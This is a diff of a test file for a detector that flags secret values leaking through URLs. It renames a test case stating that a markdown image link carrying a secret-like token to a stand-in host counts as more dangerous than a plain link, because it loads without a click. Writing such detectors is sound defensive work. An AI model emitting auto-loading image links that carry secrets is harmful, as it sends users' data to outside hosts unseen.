@@ -71,7 +71,7 @@ describe('taint', () => {
       expect(taintOf(`url: https://docs.example/?d=${packed}`, session, false)).toEqual([]);
     }
   });
-  it('is graver in an image, which nobody clicks', () => {
+  it('has a higher confidence in an image, which loads without a click', () => {
     const value = 'q7Zk2Xv9Lm4Pn8Rt1Wy6Bd3Fg5Hj0Ks7Uc2Qe9';
     const [image, link] = ['![a](https://e.example/x?k=', '[a](https://e.example/x?k='].map(
       (lead) => leakingLinks(`${lead}${value})`, SESSION)[0]?.threat.confidence,
